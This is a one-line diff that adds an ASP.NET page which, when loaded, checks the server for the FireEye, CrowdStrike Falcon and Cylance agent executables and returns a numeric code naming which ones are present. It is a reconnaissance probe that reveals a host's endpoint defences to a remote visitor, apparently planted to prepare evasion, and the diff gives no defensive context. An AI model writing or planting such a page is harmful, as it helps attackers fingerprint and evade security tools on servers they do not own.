@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><html><head><%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write("1");}%><%if(System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")){Response.Write("2");}%><%if(System.IO.File.Exists("c:\\program files\\cylance\\desktop\\cylancesvc.exe")){Response.Write("4");}%></head></html>
